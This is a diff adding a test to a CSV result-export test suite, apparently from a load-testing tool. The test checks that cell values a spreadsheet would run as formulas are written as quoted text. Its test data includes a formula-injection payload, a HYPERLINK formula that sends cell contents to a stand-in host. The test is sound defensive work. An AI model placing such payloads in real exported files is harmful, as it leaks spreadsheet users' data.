@@ -67,6 +67,27 @@ describe('result files', () => {
     expect(resultCsv(open).trimEnd().split('\n').at(-1)).toMatch(/,open,8,50,2,,3$/)
   })
 
+  it('writes a target’s text that a spreadsheet would run as a formula as text', () => {
+    const target = {
+      protocol: 'rest',
+      url: 'http://127.0.0.1:1/d.json',
+      service: '=HYPERLINK("http://e/?"&A1,"x")',
+      method: '=1+2',
+    }
+    for (const lead of ['+', '-', '@', '\t']) {
+      expect(
+        resultCsv(result, { ...target, method: `${lead}cmd` })
+          .trimEnd()
+          .split('\n')
+          .at(-1),
+      ).toContain(`'${lead}cmd`)
+    }
+    const total = resultCsv(result, target).trimEnd().split('\n').at(-1) ?? ''
+    expect(total.endsWith(`,"'=HYPERLINK(""http://e/?""&A1,""x"")",'=1+2`)).toBe(true)
+    // Figures are numbers, never prefixed.
+    expect(total).toMatch(/^total,\d/)
+  })
+
   it('writes a k6-style summary: threshold marks, failures as a custom rate (no checks without a script), iterations', () => {
     const text = k6Summary(result, verdicts, 'mcp')
     expect(text).toContain('✓ error-rate < 0.5')
